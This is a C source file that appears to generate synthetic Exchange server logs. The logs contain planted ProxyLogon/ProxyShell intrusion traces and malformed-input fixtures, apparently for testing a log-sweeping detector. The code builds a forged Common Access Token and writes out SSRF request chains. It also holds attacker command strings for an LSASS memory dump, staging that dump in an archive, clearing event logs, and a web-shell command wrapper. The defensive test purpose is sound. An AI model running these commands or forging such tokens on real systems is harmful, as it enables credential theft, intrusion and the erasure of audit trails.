            .user = e->user,
            .ip = e->ip,
            .status = 200,
            .text = text,
            .client = e->ua,
            .name = name,
            .action = "Command"};
    emit(g, &h, r);
    ev c = {.t = e->t + cmd_ms,
            .kind = EV_CMDLET,
            .user = cmd_user,
            .name = name,
            .text = args,
            .client = client};
    emit(g, &c, r);
}

/* One benign request (or a request plus its lines in the ECP and CmdletInfra logs). */
static void benign_event(gen *g, rng *r, int64_t t)
{
    scratch s;
    unsigned ui;
    ev e = {0};
    e.t = t;
    e.kind = EV_REQ;
    e.port = 443;
    e.host = "mail.contoso.test";
    e.dest = D_HP | D_FE | D_BE;
    e.status = 200;
    user_of(r, &s, &ui);
    e.user = s.user;
    e.ip = s.ip;
    e.anchor = s.anchor;
    e.auth = "Negotiate";
    unsigned pick = below(r, 100);
    if (pick < 22) {
        /* autodiscover.json: Outlook and the mobile clients ask all the time. */
        e.proto = P_AUTODISCOVER;
        e.method = "GET";
        e.host = "autodiscover.contoso.test";
        e.user = NULL;
        e.auth = "";
        if (below(r, 2)) {
            e.stem = "/autodiscover/autodiscover.json";
            snprintf(s.query, sizeof s.query,
                     "Email=%s%%40contoso.test&Protocol=%s&RedirectCount=1", users[ui],
                     below(r, 3) ? "ActiveSync" : "AutodiscoverV1");
            e.ua = devices[below(r, 5)][1];
        } else {
            snprintf(s.stem, sizeof s.stem, "/autodiscover/autodiscover.json/v1.0/%s", s.upn);
            e.stem = s.stem;
            snprintf(s.query, sizeof s.query, "Protocol=%s&RedirectCount=1",
                     below(r, 2) ? "EWS" : "ActiveSync");
            e.ua = outlooks[below(r, 3)];
        }
        e.query = s.query;
        e.action = "";
    } else if (pick < 40) {
        /* Outlook over MAPI/HTTP */
        e.proto = P_MAPI;
        e.method = "POST";
        e.stem = below(r, 5) ? "/mapi/emsmdb/" : "/mapi/nspi/";
        snprintf(s.query, sizeof s.query,
                 "MailboxId=%08x-%04x-4%03x-a%03x-%012" PRIx64 "@contoso.test",
                 (unsigned)hash_str(users[ui]), ui * 31, ui * 7 % 4096, ui * 13 % 4096,
                 (uint64_t)(hash_str(s.upn) & 0xffffffffffffull));
        e.query = s.query;
        e.ua = outlooks[below(r, 3)];
        static const char *const acts[] = {"Execute", "Execute", "NotificationWait", "Connect",
                                           "Disconnect"};
        e.action = acts[below(r, 5)];
        e.auth = below(r, 2) ? "Negotiate" : "Bearer";
    } else if (pick < 55) {
        /* ActiveSync devices */
        e.proto = P_EAS;
        e.method = below(r, 8) ? "POST" : "OPTIONS";
        e.stem = "/Microsoft-Server-ActiveSync/default.eas";
        unsigned d = (unsigned)(hash_str(users[ui]) % 5);
        snprintf(s.query, sizeof s.query,
                 "Cmd=%s&User=%s&DeviceId=%016" PRIX64 "%016" PRIX64 "&DeviceType=%s",
                 strcmp(e.method, "OPTIONS") == 0 ? "Options" : eas_cmds[below(r, 9)], users[ui],
                 hash_str(users[ui]), hash_str(s.upn), devices[d][0]);
        e.query = s.query;
        e.ua = devices[d][1];
        e.auth = "Basic";
        e.action = "";
    } else if (pick < 65) {
        /* EWS clients */
        e.proto = P_EWS;
        e.method = "POST";
        e.stem = "/EWS/Exchange.asmx";
        static const char *const ews_uas[] = {
            "MacOutlook/16.46.21021202 (Intelx64 Mac OS X 11.2.1 (Build 20D74))",
            "AppleExchangeWebServices/814.80.3 accountsd/113",
            "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)",
            "ExchangeServicesClient/15.00.0913.015"};
        e.ua = ews_uas[below(r, 4)];
        e.action = "";
        e.auth = below(r, 3) ? "Negotiate" : "Basic";
    } else if (pick < 77) {
        /* OWA in a browser */
        e.proto = P_OWA;
        e.ua = browsers[below(r, 5)];
        e.referer = "https://mail.contoso.test/owa/";
        unsigned k = below(r, 10);
        if (k == 0) {
            e.method = "GET";
            e.stem = "/owa/auth/logon.aspx";
            e.query = "url=https%3a%2f%2fmail.contoso.test%2fowa%2f&reason=0";
            anonymous(&e);
            e.dest = D_HP | D_FE;
        } else if (k <= 2) {
            e.method = "GET";
            e.stem = owa_static[below(r, 9)];
            anonymous(&e);
            e.dest = D_HP | D_FE;
        } else if (k == 3) {
            e.method = "POST";
            e.stem = "/owa/auth.owa";
            anonymous(&e);
            e.status = 302;
            e.dest = D_HP | D_FE;
        } else if (k == 4) {
            e.method = "GET";
            e.stem = "/owa/";
            e.auth = "FBA";
        } else if (k <= 8) {
            e.method = "POST";
            e.stem = "/owa/service.svc";
            snprintf(s.query, sizeof s.query, "action=%s&EP=1&ID=-%u&AC=1",
                     owa_actions[below(r, 8)], 30 + below(r, 40));
            e.query = s.query;
            e.auth = "FBA";
            e.action = "";
        } else {
            e.method = "POST";
            e.stem = "/owa/ev.owa2";
            e.query = "ns=PendingRequest&ev=PendingNotificationRequest&UA=0&cid=0";
            e.auth = "FBA";
        }
    } else if (pick < 83) {
        /* Autodiscover XML from Outlook */
        e.proto = P_AUTODISCOVER;
        e.method = "POST";
        e.host = "autodiscover.contoso.test";
        e.stem = "/Autodiscover/Autodiscover.xml";
        e.ua = outlooks[below(r, 3)];
        e.action = "";
    } else if (pick < 87) {
        /* Outlook over RPC/HTTP */
        e.proto = P_RPCHTTP;
        e.method = below(r, 2) ? "RPC_IN_DATA" : "RPC_OUT_DATA";
        e.stem = "/rpc/rpcproxy.dll";
        e.query = below(r, 2) ? SERVER_FQDN ":6001" : SERVER_FQDN ":6004";
        e.ua = "MSRPC";
        e.auth = "Ntlm";
    } else if (pick < 90) {
        /* Offline address book downloads */
        e.proto = P_OAB;
        e.method = "GET";
        snprintf(s.stem, sizeof s.stem, "/OAB/%s/%s", OAB_ID,
                 below(r, 2) ? "oab.xml" : "4f3c2b1a-9e8d-4c7b-a6f5-0e1d2c3b4a59-data-1.lzx");
        e.stem = s.stem;
        e.ua = outlooks[below(r, 3)];
    } else if (pick < 96) {
        /* Managed Availability probes, from the server itself */
        static const char *const hc[][2] = {{"/owa/healthcheck.htm", "Owa"},
                                            {"/ecp/healthcheck.htm", "Ecp"},
                                            {"/EWS/healthcheck.htm", "Ews"},
                                            {"/mapi/healthcheck.htm", "Mapi"},
                                            {"/OAB/healthcheck.htm", "Oab"},
                                            {"/Autodiscover/healthcheck.htm", "Autodiscover"},
                                            {"/Microsoft-Server-ActiveSync/healthcheck.htm", "Eas"},
                                            {"/rpc/healthcheck.htm", "RpcHttp"}};
        unsigned k = below(r, 9);
        if (k < 8) {
            e.method = "GET";
            e.stem = hc[k][0];
            for (int p = 0; p < P__COUNT; p++)
                if (strcmp(proto_dir[p], hc[k][1]) == 0)
                    e.proto = p;
            e.ua = "AMProbe/Local/ClientAccess";
            anonymous(&e);
            e.ip = "127.0.0.1";
            e.host = "localhost";
        } else {
            /* The Remote PowerShell probe */
            e.proto = P_POWERSHELL;
            e.method = "POST";
            e.stem = "/powershell";
            e.query = "clientApplication=ActiveMonitor;PSVersion=5.1.14393.4283";
            e.ua = "Microsoft WinRM Client";
            e.user = HEALTH_USER;
            e.auth = "Kerberos";
            e.ip = SERVER_IP;
            e.host = SERVER_FQDN;
            e.anchor = "ServerVersion~Version 15.1 (Build 2176.0)";
            e.port = 443;
            ps_session(g, &e, r, 3, 9, "Get-Mailbox",
                       "HealthMailbox8a1f2c3d4e5f4a6b9c0d1e2f3a4b5c6d", "-ResultSize \"1\"",
                       "ActiveMonitor");
            return;
        }
    } else if (pick < 98) {
        /* An admin in the Exchange Management Shell (plain http to /powershell, port 80). */
        unsigned k = below(r, sizeof admin_cmdlets / sizeof admin_cmdlets[0]);
        e.proto = P_POWERSHELL;
        e.method = "POST";
        e.stem = "/powershell";
        e.query = "serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication="
                  "ManagementShell;TargetServer=;PSVersion=5.1.17763.1490";
        e.ua = "Microsoft WinRM Client";
        e.user = "CONTOSO\\exadmin";
        e.ip = "10.1.10.5";
        e.host = SERVER_FQDN;
        e.auth = "Kerberos";
        e.port = 80;
        e.anchor = "ServerVersion~Version 15.1 (Build 2176.0)";
        ps_session(g, &e, r, 4, 11, admin_cmdlets[k][0], e.user, admin_cmdlets[k][1], "");
        return;
    } else {
        /* ECP admin use */
        unsigned k = below(r, sizeof ecp_cmds / sizeof ecp_cmds[0]);
        e.proto = P_ECP;
        e.user = "CONTOSO\\exadmin";
        e.ip = "10.1.10.5";
        e.ua = browsers[2];
        e.auth = "FBA";
        e.referer = "https://mail.contoso.test/ecp/";
        e.method = "POST";
        e.stem = "/ecp/DDI/DDIService.svc/GetList";
        snprintf(s.query, sizeof s.query,
                 "schema=%s&msExchEcpCanary=Vb1mXq4wJr7kYs2LdE9fGu3aIo5TyPjRlCZp8cH2vN6tB0.",
                 k == 3 ? "VirtualDirectories" : "MailboxService");
        e.query = s.query;
        e.anchor = "Sid~S-1-5-21-1004336348-1177238915-682003330-1107";
        emit(g, &e, r);
        ev c = {.t = t + 40, .kind = EV_ECP, .text = ecp_cmds[k]};
        char url[1024];
        snprintf(url, sizeof url, "/ecp/DDI/DDIService.svc/GetList?%s", s.query);
        c.url = url;
        emit(g, &c, r);
        return;
    }
    emit(g, &e, r);
}

/* ------------------------------------------------------------------------------------------ */
/* The timeline                                                                               */

static const unsigned base_hours[] = {8, 11, 14, 17};

static double hour_weight(unsigned day, unsigned h)
{
    double w = h < 6 ? 0.25 : h < 8 ? 0.6 : h < 18 ? 1.0 : h < 22 ? 0.6 : 0.35;
    if (day == 6 || day == 7) /* the weekend of 6 and 7 March 2021 */
        w *= 0.5;
    return w;
}

static int cmp_fixed(const void *a, const void *b)
{
    const ev *x = a, *y = b;
    if (x->t != y->t)
        return x->t < y->t ? -1 : 1;
    return 0;
}

static void close_hour(gen *g)
{
    for (int p = 0; p < P__COUNT; p++)
        m_close(&g->o, &g->hp[p]);
    m_close(&g->o, &g->rpshttp);
    m_close(&g->o, &g->rpscmdlet);
}

static void close_day(gen *g)
{
    close_hour(g);
    m_close(&g->o, &g->iis[0]);
    m_close(&g->o, &g->iis[1]);
    m_close(&g->o, &g->ecp);
    m_close(&g->o, &g->oab);
}

static void b64(const unsigned char *in, size_t n, char *out_, size_t cap)
{
    static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t o = 0;
    for (size_t i = 0; i < n && o + 13 < cap; i += 3) {
        unsigned v = (unsigned)in[i] << 16 | (i + 1 < n ? (unsigned)in[i + 1] << 8 : 0) |
                     (i + 2 < n ? in[i + 2] : 0);
        char q[4] = {a[v >> 18 & 63], a[v >> 12 & 63], i + 1 < n ? a[v >> 6 & 63] : '=',
                     i + 2 < n ? a[v & 63] : '='};
        for (int k = 0; k < 4; k++) {
            /* URL-encoded, as it travels in the query string */
            if (q[k] == '+')
                o += (size_t)snprintf(out_ + o, cap - o, "%%2B");
            else if (q[k] == '/')
                o += (size_t)snprintf(out_ + o, cap - o, "%%2F");
            else if (q[k] == '=')
                o += (size_t)snprintf(out_ + o, cap - o, "%%3D");
            else
                out_[o++] = q[k];
        }
    }
    out_[o] = 0;
}

/* A forged Common Access Token in the layout the ProxyShell write-ups describe (version,
 * type, compression, auth type, login, user SID, group SIDs), for administrator@contoso.test. */
static void make_token(gen *g)
{
    static const char sid[] = "S-1-5-21-1004336348-1177238915-682003330-500";
    static const char grp[] = "S-1-5-32-544";
    unsigned char t[256];
    size_t n = 0;
    t[n++] = 'V';
    t[n++] = 1;
    t[n++] = 0;
    t[n++] = 'T';
    t[n++] = 7;
    memcpy(t + n, "Windows", 7);
    n += 7;
    t[n++] = 'C';
    t[n++] = 0;
    t[n++] = 'A';
    t[n++] = 8;
    memcpy(t + n, "Kerberos", 8);
    n += 8;
    t[n++] = 'L';
    t[n++] = 26;
    memcpy(t + n, "administrator@contoso.test", 26);
    n += 26;
    t[n++] = 'U';
    t[n++] = (unsigned char)(sizeof sid - 1);
    memcpy(t + n, sid, sizeof sid - 1);
    n += sizeof sid - 1;
    t[n++] = 'G';
    t[n++] = 1;
    t[n++] = 0;
    t[n++] = 0;
    t[n++] = 0;
    t[n++] = 7;
    t[n++] = 0;
    t[n++] = 0;
    t[n++] = 0;
    t[n++] = (unsigned char)(sizeof grp - 1);
    memcpy(t + n, grp, sizeof grp - 1);
    n += sizeof grp - 1;
    t[n++] = 'E';
    t[n++] = 0;
    t[n++] = 0;
    t[n++] = 0;
    t[n++] = 0;
    b64(t, n, g->token, sizeof g->token);
}

static void generate(gen *g)
{
    for (size_t i = 0; i < NFIXED; i++)
        fixed[i].t = iso(fixed[i].when);
    qsort(fixed, NFIXED, sizeof fixed[0], cmp_fixed);
    make_token(g);

    /* Hours that get traffic: a few per day, every hour of a fixed event (so that the planted
     * tree and its benign twin hold the same files), or all of them at scale. */
    double wsum = 0;
    for (int d = 0; d < g->ndays; d++)
        for (unsigned h = 0; h < 24; h++)
            wsum += hour_weight((unsigned)(g->first_day + d), h);
    double wdone = 0;
    size_t fi = 0;
    for (int d = 0; d < g->ndays; d++) {
        unsigned day = (unsigned)(g->first_day + d);
        for (unsigned h = 0; h < 24; h++) {
            int64_t start = ms_of(2021, 3, day, h, 0, 0, 0), end = start + 3600000;
            double w = hour_weight(day, h);
            bool active = g->scale;
            for (size_t k = 0; k < sizeof base_hours / sizeof base_hours[0]; k++)
                active |= base_hours[k] == h;
            for (size_t k = fi; k < NFIXED && fixed[k].t < end; k++)
                active |= fixed[k].t >= start;
            uint64_t n = 0;
            if (g->scale) {
                /* Spread what is left of the target over what is left of the week. */
                double avg = g->events ? (double)g->o.total / (double)g->events : 1200.0;
                double left = g->o.total < g->target ? (double)(g->target - g->o.total) : 0;
                double share = wsum - wdone > 0 ? w / (wsum - wdone) : 1;
                n = (uint64_t)(left * share / avg);
            } else if (active) {
                n = (uint64_t)(24 * w);
            }
            wdone += w;
            iis_restarts(g, start);
            rng r = rng_make(g->seed, day, h);
            for (uint64_t i = 0; i < n; i++) {
                /* strictly increasing times over the hour */
                int64_t t = start + (int64_t)((i * 3600000 + below(&r, 3600000)) / n);
                while (fi < NFIXED && fixed[fi].t <= t) {
                    if (!fixed[fi].planted || !g->benign) {
                        rng pr = rng_make(g->seed ^ 0x5eed, fi, 0);
                        emit(g, &fixed[fi], &pr);
                    }
                    fi++;
                }
                benign_event(g, &r, t);
            }
            while (fi < NFIXED && fixed[fi].t < end) {
                if (!fixed[fi].planted || !g->benign) {
                    rng pr = rng_make(g->seed ^ 0x5eed, fi, 0);
                    emit(g, &fixed[fi], &pr);
                }
                fi++;
            }
            close_hour(g);
        }
        close_day(g);
    }
}

/* ------------------------------------------------------------------------------------------ */
/* Robustness fixtures: one kind of hostile input each, between planted rows, so a test can   */
/* assert both the counted warning and that the rows after the bad input are still read.     */

static ev chain_row(const char *when, const char *target, int status)
{
    ev e = {.when = when,
            .kind = EV_REQ,
            .dest = D_HP,
            .proto = P_ECP,
            .method = "POST",
            .host = "mail.contoso.test",
            .stem = "/ecp/y.js",
            .ua = UA_PYREQ,
            .ip = A_PL,
            .auth = "",
            .anchor = target,
            .hint = "X-BEResource-Cookie",
            .status = status};
    e.t = iso(when);
    return e;
}

/* An HttpProxy/Ecp file of the layout, with its header; the caller writes rows. */
static member *robust_hp_open(gen *g, const char *hour, const char *fields)
{
    char rel[512];
    snprintf(rel, sizeof rel, "%s/Logging/HttpProxy/Ecp/HttpProxy_%s-1.LOG", g->lay->exch, hour);
    member *m = &g->hp[P_ECP];
    m_open(&g->o, m, rel);
    exch_header(g, m, "HttpProxy Logs", fields, false, iso("2021-03-03T06:00:01.020Z"),
                BUILD_DOTTED_OLD);
    return m;
}

static void hp_fields_line(char *out_, size_t cap, int extra)
{
    size_t n = 0;
    for (int i = 0; i < 74 + extra && n < cap; i++) {
        if (i < 74)
            n += (size_t)snprintf(out_ + n, cap - n, "%s%s", i ? "," : "", hp_fields[i]);
        else
            n += (size_t)snprintf(out_ + n, cap - n, ",ExtraLatency%d", i - 73);
    }
}

/* A "wide" row: the 74 HttpProxy fields, then random numbers up to 600 fields. */
static void widen_row(sb *row, rng *r)
{
    row->n -= 2; /* the CRLF */
    for (int i = 74; i < 600; i++) {
        sb_putc(row, ',');
        sb_u(row, below(r, 50));
    }
    sb_crlf(row);
}

static void robust_rows(gen *g, member *m, const char *kind, rng *r)
{
    sb *row = &g->row;
    ev a = chain_row("2021-03-03T06:49:43.699Z", SSRF_PFX "mapi/emsmdb/?#", 200);
    ev b = chain_row("2021-03-03T06:49:46.210Z", SSRF_PFX "ecp/proxyLogon.ecp?#", 241);
    ev c = chain_row("2021-03-03T06:49:51.543Z",
                     SSRF_PFX "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" CANARY1
                              "&schema=OABVirtualDirectory#",
                     200);
    build_hp(g, &a, r, row);
    m_row(&g->o, m, row, a.t);
    if (strcmp(kind, "longline") == 0) {
        /* A row whose user agent is 64 MiB long. */
        sb_put(row,
               "2021-03-03T06:49:44.000Z,5b0d9c3e-1111-4a2b-9c1d-0123456789ab,15,1,2176,2,,Ecp,"
               "mail.contoso.test,/ecp/default.aspx,,,false,,,,");
        m_row(&g->o, m, row, INT64_MIN);
        char *chunk = malloc(1 << 20);
        if (!chunk)
            die("memory");
        memset(chunk, 'A', 1 << 20);
        for (int i = 0; i < 64; i++)
            m_write(&g->o, m, chunk, 1 << 20);
        free(chunk);
        sb_put(row, "," A_PL "," SERVER
                    ",404,,,GET,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\r\n");
        m_row(&g->o, m, row, INT64_MIN);
    } else if (strcmp(kind, "binary") == 0) {
        /* A zero-filled cluster and random bytes in the middle of the log, as after a crash. */
        char junk[8192];
        memset(junk, 0, 4096);
        for (size_t i = 4096; i < sizeof junk; i++)
            junk[i] = (char)below(r, 256);
        m_write(&g->o, m, junk, sizeof junk);
        sb_crlf(row);
        m_row(&g->o, m, row, INT64_MIN);
    } else if (strcmp(kind, "badquote") == 0) {
        /* A planted row with an unclosed quote in its user agent: the fields before it still
         * parse (AnchorMailbox is one of them). */
        ev d = c;
        d.ua = "\"python-requests/2.25.1 (broken";
        sb t = {malloc(SB_CAP), 0};
        if (!t.p)
            die("memory");
        build_hp(g, &d, r, &t);
        /* sb_csv quoted the field correctly ("""python..."); break it: keep one quote. */
        char *q = strstr(t.p, "\"\"\"python");
        if (!q)
            die("badquote");
        memmove(q, q + 2, t.n - (size_t)(q + 2 - t.p));
        t.n -= 2;
        /* and drop the closing quote */
        char *cl = strstr(q + 1, "(broken\"");
        if (!cl)
            die("badquote");
        memmove(cl + 7, cl + 8, t.n - (size_t)(cl + 8 - t.p));
        t.n -= 1;
        sb_putn(row, t.p, t.n);
        free(t.p);
        m_row(&g->o, m, row, d.t);
    } else if (strcmp(kind, "wide") == 0) {
        /* (the header has 600 names) rows with 600 fields */
        build_hp(g, &c, r, row);
        widen_row(row, r);
        m_row(&g->o, m, row, c.t);
    }
    build_hp(g, &b, r, row);
    if (strcmp(kind, "wide") == 0)
        widen_row(row, r);
    m_row(&g->o, m, row, b.t);
    if (strcmp(kind, "truncated") == 0) {
        /* The server stopped while writing: the last row ends after ClientIpAddress, no CRLF. */
        build_hp(g, &c, r, row);
        size_t commas = 0, i = 0;
        for (; i < row->n && commas < 18; i++)
            commas += row->p[i] == ',';
        row->n = i - 1;
        m_row(&g->o, m, row, c.t);
    }
}

static void robust(gen *g, const char *kind, const char *dir)
{
    rng r = rng_make(g->seed, 77, 0);
    char fields[16384];
    if (strcmp(kind, "longline") == 0 || strcmp(kind, "binary") == 0 ||
        strcmp(kind, "badquote") == 0 || strcmp(kind, "truncated") == 0 ||
        strcmp(kind, "wide") == 0) {
        hp_fields_line(fields, sizeof fields, strcmp(kind, "wide") == 0 ? 526 : 0);
        member *m = robust_hp_open(g, "2021030306", fields);
        robust_rows(g, m, kind, &r);
        m_close(&g->o, m);
    } else if (strcmp(kind, "badutf8") == 0) {
        /* Carrier POSTs in the front-end IIS log; the first one's user agent is not UTF-8. */
        ev e = {.kind = EV_REQ,
                .dest = D_FE,
                .method = "POST",
                .host = "mail.contoso.test",
                .stem = "/ecp/y.js",
                .ip = A_PL,
                .status = 200};
        ev ok = e;
        e.t = iso("2021-03-03T06:49:43.000Z");
        e.ua = "python-requests/2.25.1 \xff\xfe\xc3( \xed\xa0\x80";
        ok.t = iso("2021-03-03T06:49:46.000Z");
        ok.ua = UA_PYREQ;
        ev benign = {
            .kind = EV_REQ,
            .dest = D_FE,
            .method = "GET",
            .host = "mail.contoso.test",
            .stem = "/owa/auth/logon.aspx",
            .query = "url=https%3a%2f%2fmail.contoso.test%2fowa%2f&reason=0",
            .ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
            .ip = "10.1.12.40",
            .status = 200};
        benign.t = iso("2021-03-03T06:40:00.000Z");
        emit(g, &benign, &r);
        emit(g, &e, &r);
        emit(g, &ok, &r);
        m_close(&g->o, &g->iis[0]);
    } else if (strcmp(kind, "special") == 0) {
        /* A FIFO named like a log and a dangling symlink beside a good log. */
        hp_fields_line(fields, sizeof fields, 0);
        member *m = robust_hp_open(g, "2021030306", fields);
        robust_rows(g, m, "plain", &r);
        m_close(&g->o, m);
        char p[1024];
        snprintf(p, sizeof p, "%s/%s/Logging/HttpProxy/Ecp/HttpProxy_2021030307-1.LOG", dir,
                 g->lay->exch);
        if (mkfifo(p, 0644) != 0)
            die(p);
        snprintf(p, sizeof p, "%s/%s/Logging/HttpProxy/Ecp/HttpProxy_2021030308-1.LOG", dir,
                 g->lay->exch);
        if (symlink("/nonexistent/exsweep-test/HttpProxy_2021030308-1.LOG", p) != 0)
            die(p);
    } else if (strcmp(kind, "corruptzip") == 0) {
        /* A zip whose first member's deflate data is damaged, then a good member. */
        char zpath[1024];
        snprintf(zpath, sizeof zpath, "%s/collect.zip", dir);
        g->o.a = archive_write_new();
        archive_write_set_format_zip(g->o.a);
        if (archive_write_open_filename(g->o.a, zpath) != ARCHIVE_OK)
            die(zpath);
        hp_fields_line(fields, sizeof fields, 0);
        member *m = robust_hp_open(g, "2021030306", fields);
        robust_rows(g, m, "plain", &r);
        m_close(&g->o, m);
        m = robust_hp_open(g, "2021030307", fields);
        ev d = chain_row("2021-03-03T07:12:20.359Z",
                         SSRF_PFX "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2
                                  "&schema=ResetOABVirtualDirectory#",
                         200);
        build_hp(g, &d, &r, &g->row);
        m_row(&g->o, m, &g->row, d.t);
        m_close(&g->o, m);
        archive_write_close(g->o.a);
        archive_write_free(g->o.a);
        g->o.a = NULL;
        /* Damage: the first member's compressed data starts after its local header
         * (30 bytes, the name, the extra field). A first byte 0xFF is a deflate block of the
         * reserved type 3: inflate fails at once. */
        int fd = open(zpath, O_RDWR);
        unsigned char h[30];
        if (fd < 0 || pread(fd, h, 30, 0) != 30 || memcmp(h, "PK\3\4", 4) != 0)
            die(zpath);
        off_t data = 30 + (h[26] | h[27] << 8) + (h[28] | h[29] << 8);
        unsigned char bad[16];
        memset(bad, 0xff, sizeof bad);
        if (pwrite(fd, bad, sizeof bad, data) != (ssize_t)sizeof bad || close(fd) != 0)
            die(zpath);
    } else {
        fprintf(stderr, "gentree: unknown --robust kind '%s'\n", kind);
        exit(2);
    }
}

/* ------------------------------------------------------------------------------------------ */
/* --story: what the intrusion of the logs left beside them                                   */
/*                                                                                            */
/* The web shells the logs name, the Windows event logs of the intrusion (Sysmon, Security,   */
/* System, Defender), the LSASS dump and the archive it was staged in, each consistent with   */
/* the rows of the planted table and dated by them:                                           */
/*                                                                                            */
/*   03-03 07:12:20  the OAB reset (ECP, 203.0.113.21) writes owa/auth/errorEE.aspx: the OAB  */
/*                   virtual directory's settings with the ExternalUrl script of the ECP log  */
/*   03-03 07:14:03  the OAB generator writes aspnet_client/x.aspx (CVE-2021-26858), China    */
/*                   Chopper; antSword runs a command through it (07:15:10) and uploads the   */
/*                   look-alike owa/auth/RedirSuiteServerProxy.aspx (07:15:31)                */
/*   03-03 07:20:05  errorEE.aspx runs whoami                                                 */
/*   03-04 14:03:02  the ProxyShell mailbox export writes aspnet_client/s.aspx (a PST page)   */
/*   03-05 03:06:27  through the look-alike (203.0.113.45): comsvcs MiniDump of lsass to       */
/*                   Windows\Temp\debug.dmp                                                   */
/*   03-05 08:11:58  through it again: 7-Zip stages the dump in ProgramData\it.zip, then      */
/*                   wevtutil clears the System and Security logs (104, 1102)                 */
/*   03-06 00:00     the March update (msiexec rewrites logon.aspx and errorFE.aspx)          */
/*   03-06 17:27:45  Defender quarantines the look-alike as a hunter requests it: the poll of */
/*                   03-08 gets a redirect                                                    */
/*                                                                                            */
/* Shells and command lines come from the fixtures (tests/support/fixfiles.c) or are joined   */
/* from pieces here, so that no whole shell or attack command stands in the source. Files are */
/* dated by the story (a member's time is its modification time).                            */

#define W_EXCH "C:\\Program Files\\Microsoft\\Exchange Server\\V15"
#define W_OWA_AUTH W_EXCH "\\FrontEnd\\HttpProxy\\owa\\auth\\"
#define W_ASPNET "C:\\inetpub\\wwwroot\\aspnet_client\\"
#define W_SYS32 "C:\\Windows\\System32\\"
#define W_NET "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
#define W_DEFENDER "C:\\ProgramData\\Microsoft\\Windows Defender\\"
#define W_W3WP "c:\\windows\\system32\\inetsrv\\w3wp.exe"
#define W_W3WP_CMD(pool)                                                                           \
    W_W3WP " -ap \"" pool "\" -v \"v4.0\" -h \"C:\\inetpub\\temp\\apppools\\" pool "\\" pool       \
           ".config\" -w \"\" -m 0"
#define W_SYSTEM "NT AUTHORITY\\SYSTEM"
#define W_LSASS W_SYS32 "lsass.exe"
#define LSASS_PID "668"
#define W_DUMP "C:\\Windows\\Temp\\debug.dmp"
#define W_DUMP_CMD                                                                                 \
    "rundll32.exe " W_SYS32 "com"                                                                  \
    "svcs.dll, Mini"                                                                               \
    "Dump " LSASS_PID " " W_DUMP " full"
#define W_7Z "C:\\ProgramData\\7z.exe"
#define W_STAGE_CMD                                                                                \
    W_7Z " a -tz"                                                                                  \
         "ip -mx0 C:\\ProgramData\\it.zip " W_DUMP
#define W_CLEAR(log)                                                                               \
    "wevt"                                                                                         \
    "util cl " log
#define WHOAMI                                                                                     \
    "who"                                                                                          \
    "ami"
#define CHOPPER_CMD(c)                                                                             \
    "cmd /c \"cd /d \"C:\\inetpub\\wwwroot\\aspnet"                                                \
    "_client\"&" c "&echo [S]&cd&echo [E]\""
#define SF(n, v)                                                                                   \
    {                                                                                              \
        n,                                                                                         \
        {                                                                                          \
            XS_EVTXW_STRING, v, 0, NULL, 0                                                         \
        }                                                                                          \
    }

enum story_log { L_SYSMON, L_SECURITY, L_SYSTEM, L_DEFENDER, L__COUNT };

static const struct {
    const char *file, *provider, *channel;
} story_logs[L__COUNT] = {
    {"Microsoft-Windows-Sysmon%4Operational.evtx", "Microsoft-Windows-Sysmon",
     "Microsoft-Windows-Sysmon/Operational"},
    {"Security.evtx", "Microsoft-Windows-Security-Auditing", "Security"},
    {"System.evtx", "Service Control Manager", "System"},
    {"Microsoft-Windows-Windows Defender%4Operational.evtx", "Microsoft-Windows-Windows Defender",
     "Microsoft-Windows-Windows Defender/Operational"},
};

#define EVENTLOG "Microsoft-Windows-Eventlog"
#define EVENTLOG_NS "http://manifests.microsoft.com/win/2004/08/windows/eventlog"
#define STORY_FIELDS 14

/* One event; Sysmon events get UtcTime first (and a file creation its CreationUtcTime after
 * TargetFilename) from `when`. */
typedef struct story_ev {
    const char *when;
    enum story_log log;
    uint16_t id;
    uint8_t level;         /* 0: 4 (information) */
    const char *provider;  /* NULL: the log's */
    const char *user_root; /* UserData (its leaves are f, in the Eventlog namespace), or NULL */
    xs_evtxw_field f[STORY_FIELDS];
} story_ev;

#define PROC(pid, image, cmd, ppid, pimage, pcmd)                                                  \
    SF("ProcessId", pid), SF("Image", image), SF("CommandLine", cmd),                              \
        SF("CurrentDirectory", "C:\\Windows\\system32\\"), SF("User", W_SYSTEM),                   \
        SF("IntegrityLevel", "System"), SF("ParentProcessId", ppid), SF("ParentImage", pimage),    \
        SF("ParentCommandLine", pcmd)
#define CREATE(pid, image, file)                                                                   \
    SF("ProcessId", pid), SF("Image", image), SF("TargetFilename", file), SF("User", W_SYSTEM)
#define OWA_POOL "7744"
#define W3WP_OWA W_W3WP_CMD("MSExchangeOWAAppPool")
#define DEFENDER_HIT(threat_path)                                                                  \
    SF("Product Name", "Microsoft Defender Antivirus"),                                            \
        SF("Detection ID", "{5E2C8D41-7A0B-4F3E-9C61-2B8D0A4E7F13}"),                              \
        SF("Detection Time", "2021-03-06T17:27:45.102Z"),                                          \
        SF("Threat Name", "Trojan:JS/Chop"                                                         \
                          "per!dha"),                                                              \
        SF("Severity Name", "Severe"), SF("Category Name", "Trojan"),                              \
        SF("Path", "file:_" threat_path), SF("Detection Origin Name", "Local machine"),            \
        SF("Detection Type Name", "Concrete"),                                                     \
        SF("Detection Source Name", "Real-Time Protection"), SF("Process Name", W_W3WP),           \
        SF("Detection User", W_SYSTEM)

#define EV(when_, log_, id_, ...)                                                                  \
    {                                                                                              \
        .when = when_, .log = log_, .id = id_, .f = { __VA_ARGS__ }                                \
    }
#define EV_LEVEL(when_, log_, id_, level_, ...)                                                    \
    {                                                                                              \
        .when = when_, .log = log_, .id = id_, .level = level_, .f = { __VA_ARGS__ }               \
    }
#define EV_CLEARED(when_, log_, id_, ...)                                                          \
    {                                                                                              \
        .when = when_, .log = log_, .id = id_, .provider = EVENTLOG,                               \
        .user_root = "LogFileCleared", .f = {                                                      \
            __VA_ARGS__                                                                            \
        }                                                                                          \
    }
